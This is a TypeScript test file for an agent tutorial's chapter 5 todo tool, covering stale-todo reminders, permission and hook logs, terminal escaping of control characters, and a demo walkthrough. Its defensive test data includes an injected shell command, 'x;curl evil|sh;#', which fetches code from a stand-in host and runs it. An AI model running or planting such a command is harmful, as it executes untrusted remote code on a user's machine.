        process.execPath,
        ["--import", tsx, entry, "--prompt", "读 README.md", "--transcript", transcript],
        {
          cwd: workspace,
          env: { ...keyless(), ...envFor(server) },
          stdio: ["ignore", "pipe", "pipe"],
        },
      );
      let stdout = "";
      let stderr = "";
      child.stdout.setEncoding("utf8").on("data", (chunk: string) => (stdout += chunk));
      child.stderr.setEncoding("utf8").on("data", (chunk: string) => (stderr += chunk));
      child.on("error", reject);
      child.on("close", (code) => resolve({ code: code ?? -1, stdout, stderr }));
    });
    expect(run.code).toBe(0);
    expect(run.stdout).toBe("past the script\n");
    expect(server.requests).toHaveLength(8);
    expect(wireReminded(server)).toEqual([4, 7]);
    for (const number of [4, 7]) {
      expect(wireMessages(server.requests[number - 1]).at(-1)).toEqual({
        role: "system",
        content: TODO_STALE_REMINDER,
      });
    }
    expect(wireMessages(server.requests[0])[0]?.content).toBe(`${SYSTEM_PROMPT}${TODO_PROMPT_LINE}`);
    const recorded = JSON.parse(await readFile(transcript, "utf8")) as { chapter: number; messages: WireMessage[] };
    expect(recorded.chapter).toBe(5);
    expect(recorded.messages.filter((message) => message.role === "tool")).toHaveLength(7);
    expect(recorded.messages.some((message) => message.content === TODO_STALE_REMINDER)).toBe(false);
    expect(run.stderr).not.toContain(TODO_STALE_REMINDER);
  });

  it("npm run ch05 -- --prompt x and agent-tutorial run --chapter 5 --prompt x send the same P05 request", async () => {
    const [fixed, chosen] = [await provider([]), await provider([])];
    expect((await ch05(["--prompt", "x"], envFor(fixed))).code).toBe(0);
    expect((await unified(["run", "--chapter", "5", "--prompt", "x"], envFor(chosen))).code).toBe(0);
    expect(fixed.requests).toHaveLength(1);
    expect(chosen.requests).toEqual(fixed.requests);
    const tools = (fixed.requests[0] as { tools: { function: { name: string } }[] }).tools;
    expect(tools.map((tool) => tool.function.name)).toContain("todo_write");
  });

  it("runProfile puts --chapter 5 first: another --chapter is an argument error that says how to choose a chapter, so the arguments cannot switch capabilities", async () => {
    const server = await provider([]);
    expect(await ch05(["--chapter", "4", "--prompt", "x"], envFor(server))).toEqual({
      code: 1,
      stdout: "",
      stderr:
        "运行失败: npm run ch05 always runs its own chapter; --chapter is for the unified entry\n" +
        '  to choose the chapter, use npm run agent-tutorial -- run --chapter N --prompt "<task>"\n',
    });
    expect(server.requests).toEqual([]);
    const help = await ch05(["--help"], {});
    expect(help.code).toBe(0);
    expect(help.stdout.split("\n")[0]).toBe("用法: npm run ch05 -- --prompt <text> [选项]");
  });

  it("the unified entry knows chapters 1 to 9: --chapter 10 exits 1 and names them", async () => {
    expect(await unified(["run", "--chapter", "10", "--prompt", "x"], {})).toEqual({
      code: 1,
      stdout: "",
      stderr:
        "运行失败: Chapter 10 has not been migrated to this snapshot; it knows chapters 1, 2, 3, 4, 5, 6, 7, 8, 9\n",
    });
    const help = await unified(["--help"], {});
    expect(help.stdout.split("\n")[0]).toBe(
      "用法: npm run agent-tutorial -- run --chapter <1|2|3|4|5|6|7|8|9> --prompt <text> [选项]",
    );
  });
});

const BOOK_STEP_2 = [
  "[Hook] UserPromptSubmit",
  "[Hook] PreToolUse: todo_write",
  "[Permission] todo_write: allow (default) - No permission rule blocked the request",
  "[Hook] PostToolUse: todo_write -> ok",
  "[Hook] PreToolUse: read_file",
  "[Permission] read_file: allow (default) - No permission rule blocked the request",
  "[Hook] PostToolUse: read_file -> ok",
  "[Hook] Stop",
];

describe("the progress row shows a snapshot's text; the model reads the book's ASCII", () => {
  /** What one run that writes `items` prints on stderr without a terminal, and the tool message the model reads. */
  async function progressOf(items: readonly unknown[]): Promise<{ rows: string; result: string | undefined }> {
    const tracker = new TodoTracker();
    const tools = new ToolRegistry();
    tools.register(tracker.toolDefinition);
    const sink = new Sink();
    const runner = new AgentRunner({
      model: new ScriptedModel([toolTurn(call("todo-1", "todo_write", { todos: items })), textTurn("done")]),
      tools,
      systemPrompt: "test",
      workspace,
      toolRoundObserver: tracker,
      onEvent: progressListener(new Terminal(sink, { interactive: false, color: false })),
    });
    const { history } = await runner.run("plan");
    const rows = sink.text
      .split("\n")
      .filter((row) => row.startsWith("  ✓ ok"))
      .join("\n");
    return { rows, result: toolMessages(history)[0]?.[1] };
  }

  it("CJK and an emoji are shown as themselves beside ✓ ok, while the tool message keeps their \\u escapes", async () => {
    const run = await progressOf([{ content: "  编写测试😀  ", status: "pending" }]);
    expect(run.result).toBe('{"todos":[{"content":"\\u7f16\\u5199\\u6d4b\\u8bd5\\ud83d\\ude00","status":"pending"}]}');
    expect(run.rows).toBe('  ✓ ok  {"todos":[{"content":"编写测试😀","status":"pending"}]}');
  });

  it.each<[string, string, string]>([
    // The JSON's own escape of a control stays an escape: nothing the terminal obeys is printed.
    ["ESC, escaped by JSON", "\u001b[2Jx", '{"todos":[{"content":"\\u001b[2Jx","status":"pending"}]}'],
    // Read back from the model's escape, then escaped again for the terminal: a bidi control never reorders the row.
    ["a right-to-left override", "\u202eevil", '{"todos":[{"content":"\\u202eevil","status":"pending"}]}'],
    ["a zero-width space", "a\u200bb", '{"todos":[{"content":"a\\u200bb","status":"pending"}]}'],
    ["a line separator", "a\u2028b", '{"todos":[{"content":"a\\u2028b","status":"pending"}]}'],
    // The model's own text `\u7f16` is JSON's `\\u7f16`: it is not read as 编.
    ["the text \\u7f16 the model typed", "\\u7f16", '{"todos":[{"content":"\\\\u7f16","status":"pending"}]}'],
    // A lone surrogate cannot be drawn; JSON wrote it as an escape, and so it stays.
    ["a lone surrogate", "\ud800x", '{"todos":[{"content":"\\ud800x","status":"pending"}]}'],
  ])("%s is shown escaped for the terminal", async (_name, content, shown) => {
    const run = await progressOf([{ content, status: "pending" }]);
    expect(run.rows).toBe(`  ✓ ok  ${shown}`);
  });

  it("only the snapshot's escapes of characters above U+007F are read back, a pair as one character", () => {
    expect(
      todoSnapshotText(
        '{"a":"\\u8bfb\\u53d6 \\ud83d\\ude00 \\u00e9 \\u0041 \\u001b \\\\u8bfb \\"x\\" \\udc00\\ud800"}',
      ),
    ).toBe('{"a":"读取 😀 é \\u0041 \\u001b \\\\u8bfb \\"x\\" \\udc00\\ud800"}');
  });

  it("the edges of what is read back: U+007F and a lone U+DFFF stay escapes; U+0080, U+D7FF, U+E000 and U+FFFF come back", () => {
    expect(todoSnapshotText('"\\u007f \\u0080 \\ud7ff \\udfff \\ue000 \\uffff"')).toBe(
      '"\\u007f \u0080 \ud7ff \\udfff \ue000 \uffff"',
    );
  });

  it("another tool's result is not read back: a read_file of the text \\u7f16 shows \\u7f16", () => {
    const sink = new Sink();
    const listen = progressListener(new Terminal(sink, { interactive: false, color: false }));
    const read = call("read-1", "read_file", { path: "a.txt" });
    listen({ type: "tool_result", call: read, result: { content: "\\u7f16", isError: false } });
    expect(sink.text).toBe("  ✓ ok  \\u7f16\n");
  });
});

describe("rule 19: the book's step 2 on stderr", () => {
  it("todo_write, read_file, an answer: the book's eight lines in order and no question; with --quiet they are all of stderr", async () => {
    const script = [wireTodo("todo-1"), wireRead("read-1"), completion({ content: "运行 npm run ch05。" })];
    const prompt = "先建立完整 TODO，再读取 README.md 并总结运行和验证步骤";
    const full = await ch05(["--prompt", prompt], envFor(await provider(script)));
    expect(full.code).toBe(0);
    expect(full.stdout).toBe("运行 npm run ch05。\n");
    expect(hookOrAudit(full.stderr)).toEqual(BOOK_STEP_2);
    expect(full.stderr).not.toContain("允许本次调用");
    // Our progress rows sit between the book's lines.
    expect(full.stderr).toContain(
      `${BOOK_STEP_2[3] ?? ""}\n  ✓ ok  {"todos":[{"content":"读取 REA[省略 23 个字符]ogress"}]}\n`,
    );
    const quiet = await ch05(["--prompt", prompt, "--quiet"], envFor(await provider(script)));
    expect(quiet).toEqual({ code: 0, stdout: "运行 npm run ch05。\n", stderr: `${BOOK_STEP_2.join("\n")}\n` });
  });

  it("a failing observer: exit 1 with 运行失败: Tool round observer failed, and no request is sent", async () => {
    beforeModel.mockImplementation(() => {
      throw new Error("observer broke");
    });
    const server = await provider([]);
    const run = await ch05(["--prompt", "x", "--quiet"], envFor(server));
    expect(run).toEqual({
      code: 1,
      stdout: "",
      stderr: `[Hook] UserPromptSubmit\n运行失败: ${OBSERVER_FAILED}\n`,
    });
    expect(server.requests).toEqual([]);
  });
});

// ——— Rule 21: `npm run demo`, chapter 5's no-key walkthrough. ———

const walkthrough = JSON.parse(readFileSync(new URL("../demo/ch05.json", import.meta.url), "utf8")) as {
  messages: { role: string; content: string | null }[];
};
const finalText = walkthrough.messages.at(-1)?.content ?? "";
const narration = walkthrough.messages
  .filter((message) => message.role === "assistant" && message.content !== finalText)
  .map((message) => message.content ?? "");
const REMINDER_LINE = `（这次请求末尾多了一条临时 system 提醒：${TODO_STALE_REMINDER} 它只在这一次请求里，不进历史，也不进 transcript。）`;
const LAST_SNAPSHOT =
  '{"todos":[{"content":"\\u8bfb\\u53d6 README.md","status":"completed"},{"content":"\\u5199\\u4e0b\\u8fd0\\u884c\\u6b65\\u9aa4","status":"completed"},{"content":"\\u603b\\u7ed3\\u9a8c\\u8bc1\\u6b65\\u9aa4","status":"completed"}]}';
const allowed = (tool: string): string[] => [
  `[Hook] PreToolUse: ${tool}`,
  `[Permission] ${tool}: allow (default) - No permission rule blocked the request`,
  `[Hook] PostToolUse: ${tool} -> ok`,
];
const DEMO_LINES = [
  "[Hook] UserPromptSubmit",
  ...allowed("todo_write"),
  "[Hook] PreToolUse: write_file",
  "无交互输入，默认拒绝。",
  "[Permission] write_file: deny (terminal-approval) - No interactive approval input was available",
  ...allowed("read_file"),
  ...allowed("glob"),
  ...allowed("todo_write"),
  "[Hook] Stop",
];

describe("rule 21: the chapter 5 demo", () => {
  it.each([[[]], [["--quiet"]]])(
    "with no terminal (%j): the 17 lines, the answer quoting the last snapshot, only README.md on disk",
    async (extra) => {
      const run = await ch05(["--demo", ...extra], keyless());
      const demoWorkspace = announcedWorkspace(run.stderr);
      expect(run.code).toBe(0);
      const lines = run.stderr.split("\n").filter((line) => /^\[(Hook|Permission)\]|^无交互输入/.test(line));
      expect(lines).toEqual(DEMO_LINES);
      expect(run.stdout).toBe(`${finalText}\n`);
      expect(run.stdout.startsWith("演示结束。")).toBe(true);
      expect(run.stdout).toContain(LAST_SNAPSHOT);
      expect(readdirSync(demoWorkspace)).toEqual(["README.md"]);
      expect(readdirSync(dirname(demoWorkspace))).toEqual(["workspace"]);
    },
  );

  it("narrates the reminder once, right before call 6's narration; --quiet leaves all narration out", async () => {
    const run = await ch05(["--demo"], keyless());
    announcedWorkspace(run.stderr);
    const lines = run.stderr.split("\n");
    expect(lines.filter((line) => line === REMINDER_LINE)).toHaveLength(1);
    expect(lines[lines.indexOf(REMINDER_LINE) + 1]).toBe(narration[5]);
    expect(narration).toHaveLength(6);
    for (const said of narration) expect(lines).toContain(said);
    const quiet = await ch05(["--demo", "--quiet"], keyless());
    announcedWorkspace(quiet.stderr);
    expect(quiet.stderr).not.toContain(REMINDER_LINE);
    for (const said of narration) expect(quiet.stderr).not.toContain(said);
  });

  it("the transcript holds the six results and no reminder, and the answer quotes the last one byte for byte", async () => {
    const transcript = join(root, "demo.json");
    const run = await ch05(["--demo", "--transcript", transcript], keyless());
    announcedWorkspace(run.stderr);
    const recorded = JSON.parse(await readFile(transcript, "utf8")) as {
      messages: { role: string; tool_call_id?: string; content: string | null }[];
    };
    const results = recorded.messages.filter((message) => message.role === "tool");
    expect(results).toEqual([
      {
        role: "tool",
        tool_call_id: "call_demo_1",
        content:
          '{"todos":[{"content":"\\u8bfb\\u53d6 README.md","status":"in_progress"},{"content":"\\u5199\\u4e0b\\u8fd0\\u884c\\u6b65\\u9aa4","status":"pending"},{"content":"\\u603b\\u7ed3\\u9a8c\\u8bc1\\u6b65\\u9aa4","status":"pending"}]}',
      },
      {
        role: "tool",
        tool_call_id: "call_demo_2",
        content:
          'Error [invalid_arguments]: Invalid arguments for todo_write: todos.0.status: Invalid option: expected one of "pending"|"in_progress"|"completed"',
      },
      {
        role: "tool",
        tool_call_id: "call_demo_3",
        content: "Error [permission_denied]: No interactive approval input was available",
      },
      {
        role: "tool",
        tool_call_id: "call_demo_4",
        content: "# 演示工作区\n\n这是 agent-tutorial 的演示用临时文件夹。智能体只能在这里工作。\n",
      },
      { role: "tool", tool_call_id: "call_demo_5", content: "README.md" },
      { role: "tool", tool_call_id: "call_demo_6", content: LAST_SNAPSHOT },
    ]);
    expect(run.stdout).toContain(results.at(-1)?.content ?? "?");
    expect(recorded.messages.some((message) => message.content === TODO_STALE_REMINDER)).toBe(false);
  });

  const hasScript = spawnSync("script", ["--version"], { encoding: "utf8" }).status === 0;
  it.skipIf(!(hasScript && process.platform === "linux"))(
    "on a terminal, y to call 3 writes run-steps.txt; todo_write is never asked",
    async () => {
      const command = [process.execPath, "--import", tsx, entry, "--demo"].map((part) => `'${part}'`).join(" ");
      const output = await new Promise<string>((resolve, reject) => {
        const child = spawn("script", ["-qec", command, "/dev/null"], {
          env: keyless(),
          stdio: ["pipe", "pipe", "pipe"],
        });
        let text = "";
        let answered = 0;
        const timer = setTimeout(() => child.kill("SIGKILL"), 90_000);
        child.stdout.setEncoding("utf8").on("data", (chunk: string) => {
          text += chunk;
          while (answered < text.split("允许本次调用? [y/N]").length - 1) {
            child.stdin.write("y\n");
            answered += 1;
          }
        });
        child.on("error", reject);
        child.on("close", () => {
          clearTimeout(timer);
          resolve(text);
        });
      });
      // What the screen shows: lines end in "\r\n", and a redrawn status line keeps only what follows its last "\r".
      const plain = output
        .split("\n")
        // eslint-disable-next-line no-control-regex -- the colour codes are exactly what this removes
        .map((line) => (line.replace(/\r+$/, "").split("\r").at(-1) ?? "").replace(/\u001b\[[0-9;]*[A-Za-z]/g, ""))
        .join("\n");
      const demoWorkspace = announcedWorkspace(plain);
      expect(plain.split("允许本次调用? [y/N]")).toHaveLength(2);
      expect(plain).toContain("工具调用需要批准: write_file");
      expect(plain).toContain(`原因: ${ASK_WRITE}`);
      expect(hookOrAudit(plain)).toEqual([
        "[Hook] UserPromptSubmit",
        ...allowed("todo_write"),
        "[Hook] PreToolUse: write_file",
        "[Permission] write_file: allow (terminal-approval) - User approved this tool call",
        "[Hook] PostToolUse: write_file -> ok",
        ...allowed("read_file"),
        ...allowed("glob"),
        ...allowed("todo_write"),
        "[Hook] Stop",
      ]);
      expect(readFileSync(join(demoWorkspace, "run-steps.txt"), "utf8")).toBe("npm run test:ch05\n");
      expect(readdirSync(demoWorkspace).sort()).toEqual(["README.md", "run-steps.txt"]);
      expect(existsSync(join(demoWorkspace, "outside.txt"))).toBe(false);
    },
  );
});

describe("chapter 8: a todo_write result is never saved to an artifact", () => {
  /** One reply of `calls`, each writing one item of `content`, through the loop and chapter 8's result processor. */
  async function throughArtifacts(content: string, calls: number): Promise<string[]> {
    const tracker = new TodoTracker();
    const tools = new ToolRegistry();
    tools.register(tracker.toolDefinition);
    const summarizer = { summarize: () => Promise.reject(new Error("no summary is asked for")) };
    const manager = new CompactionManager({ workspace, summarizer });
    const writes = Array.from({ length: calls }, (_, index) =>
      call(`todo-${index}`, "todo_write", { todos: [{ content, status: "pending" }] }),
    );
    const runner = new AgentRunner({
      model: new ScriptedModel([toolTurn(...writes), textTurn("done")]),
      tools,
      systemPrompt: "test",
      workspace,
      toolRoundObserver: tracker,
      toolResultProcessor: async (results) => (await manager.compactToolResults(results)).results,
    });
    const { history } = await runner.run("plan");
    validateToolPairing(history);
    return toolMessages(history).map(([, text]) => text);
  }
  // Text the model chose, that a shell would run: it must never land in a file the model can name afterwards.
  const HOSTILE = "x;curl evil|sh;#";
  const FRAME = '{"todos":[{"content":"","status":"pending"}]}'.length;

  it("32 snapshots of 29,000 bytes, each under the 30,000-byte threshold, are refused instead of outgrowing the reply's budget", async () => {
    const results = await throughArtifacts(HOSTILE.repeat(2_000).slice(0, 29_000 - FRAME), 32);
    expect(results).toHaveLength(32);
    expect(new Set(results.map((text) => text.slice(0, 28)))).toEqual(new Set(["Error [todo_snapshot_limit]:"]));
    expect(existsSync(join(workspace, ".agent_tutorial"))).toBe(false);
  });

  it("a 256-call reply, 32 snapshots at the bound and 224 refused calls, stays inline whole: no file is written", async () => {
    const content = HOSTILE.repeat(300).slice(0, MAX_TODO_SNAPSHOT_BYTES - FRAME);
    const results = await throughArtifacts(content, 256);
    const snapshot = JSON.stringify({ todos: [{ content, status: "pending" }] });
    expect(snapshot).toHaveLength(MAX_TODO_SNAPSHOT_BYTES);
    expect(results.slice(0, 32)).toEqual(Array.from({ length: 32 }, () => snapshot));
    expect(new Set(results.slice(32).map((text) => text.slice(0, 24)))).toEqual(new Set(["Error [tool_call_limit]:"]));
    expect(existsSync(join(workspace, ".agent_tutorial"))).toBe(false);
  });
});
